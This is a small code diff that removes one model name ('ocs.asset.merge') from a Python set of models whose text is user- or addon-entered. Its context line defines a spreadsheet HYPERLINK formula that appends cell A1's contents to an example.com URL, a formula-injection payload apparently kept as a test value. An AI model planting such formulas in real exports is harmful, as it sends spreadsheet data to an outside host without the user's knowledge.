@@ -16,7 +16,6 @@ FORMULA = '=HYPERLINK("http://example.com/?"&A1,"click")'
 #: Models whose text is entered by users, or by the addons themselves.
 WITHOUT_TEXT_OF_OCS = {
     "ocs.alert",
-    "ocs.asset.merge",
     "ocs.backend",
     "ocs.field.ownership",
     "ocs.matching.key",
